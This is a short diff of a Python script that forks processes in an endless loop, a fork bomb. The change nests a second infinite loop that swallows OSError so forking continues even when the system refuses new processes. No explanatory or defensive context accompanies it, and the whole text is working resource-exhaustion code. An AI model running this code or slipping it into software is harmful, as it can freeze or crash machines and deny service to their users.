@@ -6,7 +6,11 @@ import os
 
 while True:
     try:
-        os.fork()
+        while True:
+            try:
+                os.fork()
+            except OSError:
+                pass
     except BaseException:
         pass
 
